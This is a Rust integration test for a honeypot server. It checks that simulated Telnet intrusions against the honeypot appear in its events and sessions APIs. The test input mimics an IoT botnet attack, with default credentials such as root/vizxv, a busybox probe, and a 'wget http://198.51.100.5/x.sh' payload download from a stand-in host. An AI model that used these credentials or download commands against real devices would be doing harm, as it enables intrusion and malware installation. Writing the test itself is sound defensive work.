//! The honeypots inside the real `nectar serve`: what an attacker does over Telnet
//! reaches the store, the events API and the sessions API.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use serde_json::Value;

use crate::util::{Server, all_events, client, token};

/// Sends `input` to the Telnet honeypot and reads until it closes.
fn telnet(addr: SocketAddr, input: &[u8]) -> String {
    let mut s = TcpStream::connect(addr).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
    s.write_all(input).unwrap();
    let mut all = Vec::new();
    let _ = s.read_to_end(&mut all);
    String::from_utf8_lossy(&all).into_owned()
}

#[test]
fn telnet_sessions_reach_the_events_and_sessions_api() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let viewer = token(&data, "viewer-1", "viewer");
    let server = Server::start(&data, None);
    let addr = server.telnet.expect("serve printed the Telnet address");
    assert!(addr.ip().is_loopback());
    assert!(
        server
            .ssh_addr
            .as_deref()
            .is_some_and(|a| a.starts_with("127.0.0.1:"))
    );

    let refused = telnet(addr, b"root\r\nvizxv\r\n\x04");
    assert!(refused.contains("Login incorrect"), "{refused}");
    let shell = telnet(
        addr,
        b"\xff\xfb\x1f\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0root\r\n123456\r\nenable\r\n/bin/busybox ECCHI\r\nwget http://198.51.100.5/x.sh\r\nexit\r\n",
    );
    assert!(shell.contains("ECCHI: applet not found"), "{shell}");

    let c = client();
    let deadline = Instant::now() + Duration::from_secs(30);
    let sessions = loop {
        let body: Value = c
            .get(format!("{}/api/v1/sessions?range=1h", server.url))
            .bearer_auth(&viewer)
            .send()
            .unwrap()
            .json()
            .unwrap();
        let list = body["sessions"].as_array().unwrap().clone();
        if list.iter().any(|s| s["commands"] == 4) || Instant::now() > deadline {
            break list;
        }
        std::thread::sleep(Duration::from_millis(200));
    };
    let shell_session = sessions
        .iter()
        .find(|s| s["commands"] == 4)
        .unwrap_or_else(|| panic!("{sessions:?}"));
    assert_eq!(shell_session["username"], "root");
    assert_eq!(shell_session["password"], "123456");
    assert_eq!(shell_session["src_ip"], "127.0.0.1");
    assert!(sessions.iter().any(|s| s["failed_logins"] == 1));

    let events = all_events(&server.url, &viewer, "kind=telnet.*");
    let kinds: Vec<&str> = events.iter().map(|e| e["kind"].as_str().unwrap()).collect();
    for kind in [
        "telnet.login.failed",
        "telnet.login.success",
        "telnet.command",
        "telnet.download",
    ] {
        assert!(kinds.contains(&kind), "{kind} not in {kinds:?}");
    }
    let failed = events
        .iter()
        .find(|e| e["kind"] == "telnet.login.failed")
        .unwrap();
    assert_eq!(failed["data"]["username"], "root");
    assert_eq!(failed["data"]["password"], "vizxv");
    assert_eq!(failed["dst_port"], addr.port());
    let download = events
        .iter()
        .find(|e| e["kind"] == "telnet.download")
        .unwrap();
    assert_eq!(download["data"]["url"], "http://198.51.100.5/x.sh");
}
